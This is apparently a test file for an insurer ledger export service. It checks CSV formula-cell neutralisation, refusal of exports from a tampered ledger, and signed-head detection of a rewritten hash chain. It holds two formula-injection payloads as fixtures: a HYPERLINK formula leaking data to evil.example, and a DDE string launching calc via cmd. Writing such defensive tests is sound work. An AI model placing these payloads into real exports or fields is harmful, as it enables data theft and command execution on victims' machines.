/**
 * Insurer exports that cannot be turned against their readers or quietly rewritten:
 *  - cells a spreadsheet would run as formulas (= + - @ tab CR at the start: a receipt ref, a
 *    household name) are written with a leading apostrophe, plain numbers stay numbers, and the
 *    export still verifies offline (the verifier says how such a cell maps to the ledger);
 *  - an export is refused while the ledger fails its own check (an edited row);
 *  - every manifest and head is signed (Ed25519, key outside the database), so a full rewrite of
 *    the chain (a row edited, every later hash and the head recomputed) is caught with an earlier
 *    export's signed head: online (API) and offline (CLI).
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { and, asc, eq, gte, sql } from 'drizzle-orm';
import type { ExportManifest } from '../../shared/ledger.js';
import { ledgerEntries, ledgerHeads } from '../../server/db/schema.js';
import { canonicalJson, entryHash } from '../../server/ledger/chain.js';
import { checkManifestSignature } from '../../server/exports/signing.js';
import { parseCsv, stormAfterPlan, type Night } from './ledger-fixtures.js';
import { binaryBody, type Agent } from '../helpers/api.js';

const FORMULA_REF = '=HYPERLINK("http://evil.example/?leak="&A1,"Receipt")';
const FORMULA_NAME = "-2+3+cmd|' /C calc'!A0";
let n: Night;
let partyId: string;
let e1: ExportManifest;
let e1Files: Record<string, Buffer>;

const download = async (who: Agent, m: ExportManifest, name: string): Promise<Buffer> => {
  const res = await who.get(`${n.base}/exports/${m.exportId}/files/${name}`).buffer(true).parse(binaryBody).expect(200);
  return res.body as Buffer;
};

/** Write an export's files and manifest to a fresh directory; returns the manifest path and the file paths. */
function saveExport(m: ExportManifest, files: Record<string, Buffer>): { manifest: string; files: string[] } {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'rc-integrity-'));
  const paths = Object.entries(files).map(([name, bytes]) => {
    const p = path.join(dir, name);
    writeFileSync(p, bytes);
    return p;
  });
  const manifest = path.join(dir, 'manifest.json');
  writeFileSync(manifest, JSON.stringify(m, null, 2));
  return { manifest, files: paths };
}

const verifyCli = (args: string[]) =>
  spawnSync(process.execPath, ['--import', 'tsx', 'server/exports/verify-cli.ts', ...args, '--offline'], {
    encoding: 'utf8',
    env: { ...process.env, NODE_OPTIONS: '' },
  });

beforeAll(async () => {
  n = await stormAfterPlan();
  const h = n.household();
  partyId = h.partyId;
  await n.checkIn(partyId);
  await n.exec(sql`update parties set name = ${FORMULA_NAME} where incident_id = ${n.incidentId} and id = ${partyId}`);
  await n.reception.post(`${n.base}/ledger/perks`).send({ partyId, category: 'bar', amountMinor: 1250, receiptRef: FORMULA_REF }).expect(201);
  await n.reception.post(`${n.base}/ledger/perks`).send({ partyId, category: 'meals', amountMinor: 999, receiptRef: '@SUM(1+1)' }).expect(201);
  const wrong = (await n.duty.post(`${n.base}/ledger/perks`).send({ partyId, hotelId: n.hotelId, category: 'meals', amountMinor: 1250 }).expect(201)).body;
  await n.duty.post(`${n.base}/ledger/entries/${wrong.entryId}/reverse`).send({ reason: 'duplicate' }).expect(201);
  e1 = (await n.insurer.post(`${n.base}/exports`).send({}).expect(201)).body;
  e1Files = {};
  for (const f of e1.files) e1Files[f.name] = await download(n.insurer, e1, f.name);
}, 240_000);
afterAll(async () => n?.server.close());

test('formula-like cells reach the CSV with a leading apostrophe; plain numbers stay; the export verifies offline and says why', () => {
  const text = e1Files['ledger.csv']!.toString('utf8');
  const rows = parseCsv(text);
  const header = rows.shift()!;
  const col = (c: string) => header.indexOf(c);
  const mine = rows.filter((r) => r[col('party_id')] === partyId);
  const bar = mine.find((r) => r[col('category')] === 'bar')!;
  expect(bar[col('receipt_ref')]).toBe(`'${FORMULA_REF}`);
  expect(bar[col('household')]).toBe(`'${FORMULA_NAME}`);
  expect(mine.find((r) => r[col('receipt_ref')] === "'@SUM(1+1)")).toBeDefined();
  // No cell of the whole file starts a formula; negative amounts are still plain numbers.
  for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?![\d.]+$)/);
  const reversal = mine.find((r) => r[col('kind')] === 'reversal')!;
  expect(reversal[col('amount')]).toBe('-12.50');
  expect(reversal[col('amount_minor')]).toBe('-1250');

  const saved = saveExport(e1, e1Files);
  const res = verifyCli([saved.manifest, ...saved.files]);
  expect(res.stdout).toContain('ok   csv hash chain');
  expect(res.stdout).toMatch(/ok {3}csv formula cells: \d+ cell\(s\) began with = \+ - @.*leading apostrophe.*is "=HYPERLINK/);
  expect(res.stdout).toContain('ok   manifest signature');
  expect(res.status).toBe(0);
});

test('every export is signed: head and manifest, with the public key; any change to the manifest breaks the signature', () => {
  expect(e1.signature).toMatchObject({ alg: 'Ed25519', head: { seq: e1.headSeq, hash: e1.headHash } });
  expect(checkManifestSignature(e1)).toMatchObject({ ok: true });
  // Key order does not matter (the database keeps manifests as jsonb); content does.
  const reordered = JSON.parse(JSON.stringify({ ...e1, files: e1.files, format: e1.format })) as ExportManifest;
  expect(checkManifestSignature(reordered).ok).toBe(true);
  expect(checkManifestSignature({ ...e1, totalMinor: e1.totalMinor - 100 }).detail).toMatch(/manifest was changed/);
  expect(
    checkManifestSignature({ ...e1, headHash: 'f'.repeat(64), signature: { ...e1.signature!, head: { seq: e1.headSeq, hash: 'f'.repeat(64) } } }).detail,
  ).toMatch(/head was changed/);
});

test('an edited ledger row stops exports (409 naming the entry); a full rewrite is caught with the earlier signed head, online and offline', async () => {
  const before = (await n.insurer.get(`${n.base}/exports`).expect(200)).body.exports.length;
  const [victim] = (await n.exec(sql`select id, seq from ledger_entries where incident_id = ${n.incidentId} and category = 'bar' order by seq limit 1`)) as {
    id: string;
    seq: number;
  }[];
  await n.exec(sql`update ledger_entries set amount_minor = amount_minor - 1000 where id = ${victim!.id}`);
  const refused = await n.insurer.post(`${n.base}/exports`).send({}).expect(409);
  expect(refused.body.error.message).toContain(`entry #${victim!.seq} (${victim!.id})`);
  expect(refused.body.error.details.reason).toBe('ledger_verification_failed');
  expect((await n.insurer.get(`${n.base}/exports`).expect(200)).body.exports.length).toBe(before);

  // The attacker recomputes every hash from the edited row on, and the head: the chain checks out again.
  const db = n.server.database.db;
  const rows = await db
    .select()
    .from(ledgerEntries)
    .where(and(eq(ledgerEntries.incidentId, n.incidentId), gte(ledgerEntries.seq, Number(victim!.seq))))
    .orderBy(asc(ledgerEntries.seq));
  let prev = rows[0]!.prevHash;
  for (const r of rows) {
    const hash = entryHash(prev, canonicalJson(r));
    await db
      .update(ledgerEntries)
      .set({ prevHash: prev, hash })
      .where(and(eq(ledgerEntries.incidentId, n.incidentId), eq(ledgerEntries.seq, r.seq)));
    prev = hash;
  }
  await db.update(ledgerHeads).set({ hash: prev }).where(eq(ledgerHeads.incidentId, n.incidentId));
  const rechecked = (await n.insurer.get(`${n.base}/ledger/verify`).expect(200)).body;
  expect(rechecked.firstBad).toBeNull();
  const e2: ExportManifest = (await n.insurer.post(`${n.base}/exports`).send({}).expect(201)).body;
  expect(e2.headHash).not.toBe(e1.headHash);

  // Online: the new export checked against the earlier one the insurer holds; the earlier one alone.
  const online = (
    await n.insurer
      .post(`${n.base}/exports/verify`)
      .send({ manifest: e2, earlier: [e1] })
      .expect(200)
  ).body;
  expect(online.ok).toBe(false);
  const earlierCheck = online.checks.find((c: { name: string }) => c.name === `earlier export ${e1.exportId}`);
  expect(earlierCheck).toMatchObject({ ok: false });
  expect(earlierCheck.detail).toMatch(/rewritten/);
  const again = (await n.insurer.post(`${n.base}/exports/verify`).send({ manifest: e1 }).expect(200)).body;
  expect(again.ok).toBe(false);
  expect(again.checks.find((c: { name: string }) => c.name === 'signature').ok).toBe(true);
  expect(again.checks.find((c: { name: string }) => c.name === 'head hash').ok).toBe(false);

  // Offline: the new export's own chain holds, but not the earlier export's signed head.
  const e2Files: Record<string, Buffer> = {};
  for (const f of e2.files) e2Files[f.name] = await download(n.insurer, e2, f.name);
  const old = saveExport(e1, e1Files);
  const fresh = saveExport(e2, e2Files);
  const alone = verifyCli([fresh.manifest, ...fresh.files]);
  expect(alone.stdout).toContain('ok   csv hash chain');
  const anchored = verifyCli([fresh.manifest, ...fresh.files, `--earlier=${old.manifest}`]);
  expect(anchored.status).toBe(1);
  expect(anchored.stdout).toMatch(
    new RegExp(
      `FAIL earlier export ${e1.exportId}: its signed head #${e1.headSeq} is ${e1.headHash}, this export has [0-9a-f]{64} there: the ledger up to #${e1.headSeq} was rewritten`,
    ),
  );
});
